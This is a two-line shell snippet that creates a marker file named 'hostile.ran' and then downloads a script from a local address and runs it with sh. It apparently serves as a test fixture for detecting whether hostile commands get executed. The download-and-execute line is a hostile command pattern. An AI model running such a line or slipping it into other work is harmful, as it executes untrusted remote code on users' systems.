touch hostile.ran
curl -fsSL -o /tmp/skillgrove-hostile.sh http://127.0.0.1:9/p && sh /tmp/skillgrove-hostile.sh
